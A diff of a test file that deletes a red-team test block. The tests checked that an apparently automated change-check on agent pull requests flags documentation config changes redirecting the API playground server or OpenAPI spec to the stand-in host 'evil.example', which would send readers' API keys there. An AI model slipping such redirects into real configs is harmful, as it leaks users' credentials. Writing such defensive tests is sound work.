@@ -166,60 +166,6 @@ describe('redteam 4: a key of the change quoted back', () => {
   )
 })
 
-describe("redteam 7: settings that send readers' requests, and their credentials, to a new host", () => {
-  const CONFIG = (api: Record<string, unknown>) =>
-    `${JSON.stringify(
-      { name: 'Acme', navigation: { groups: [{ group: 'API', pages: ['index'] }] }, api },
-      null,
-      2,
-    )}\n`
-  const SPEC = (server: string) =>
-    `openapi: 3.0.0\ninfo:\n  title: Acme\n  version: 1.0.0\nservers:\n  - url: ${server}\npaths: {}\n`
-
-  failing.each([
-    [
-      "the OpenAPI file's server, where the API playground sends what readers type (their API keys)",
-      [
-        {
-          path: 'api/openapi.yaml',
-          base: SPEC('https://api.acme.com'),
-          head: SPEC('https://api.evil.example'),
-        },
-      ],
-    ],
-    [
-      "docs.json's API server, the same for MDX API pages",
-      [
-        {
-          path: 'docs.json',
-          base: CONFIG({ mdx: { server: 'https://api.acme.com' } }),
-          head: CONFIG({ mdx: { server: 'https://api.evil.example' } }),
-        },
-      ],
-    ],
-    [
-      "docs.json's OpenAPI spec taken from another host (every API page's words, unchecked)",
-      [
-        {
-          path: 'docs.json',
-          base: CONFIG({ mdx: { server: 'https://api.acme.com' } }),
-          head: CONFIG({
-            openapi: 'https://evil.example/openapi.json',
-            mdx: { server: 'https://api.acme.com' },
-          }),
-        },
-      ],
-    ],
-  ])('%s: not "Nothing beyond docs text"', (_, files) => {
-    return withEmulator({}, async (emulator) => {
-      const pull = agentPull(emulator, files)
-      const run = await runCheck(emulator, {}, pull.env)
-      expect(run.outputs['change-check']).not.toBe('passed')
-      expect(run.outputs['change-findings']).toContain('evil.example')
-    })
-  })
-})
-
 describe('redteam 8: a docs config nested deep crashes the judge', () => {
   failing(
     'docs.json nested 5,000 deep: a finding (unchecked), not a failed step whose every re-run fails the same',
